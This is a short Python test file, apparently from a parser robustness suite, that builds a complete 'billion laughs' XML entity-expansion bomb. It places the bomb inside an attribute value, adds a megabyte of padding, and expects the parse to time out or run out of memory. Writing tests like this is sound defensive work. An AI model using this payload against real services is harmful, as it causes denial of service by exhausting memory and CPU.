# expect: timeout or memory
# The billion laughs of xml_entity_bomb.py, expanded in an attribute value instead of content.
import xml.etree.ElementTree as ET

entities = '<!ENTITY lol "lol">' + "".join(
    '<!ENTITY lol%d "%s">' % (i, ("&lol%d;" % (i - 1) if i > 1 else "&lol;") * 10)
    for i in range(1, 10)
)
padding = "<!--" + "x" * 1_000_000 + "-->"
bomb = '<?xml version="1.0"?><!DOCTYPE lolz [' + entities + "]>" + padding + '<lolz a="&lol9;"/>'
ET.fromstring(bomb)
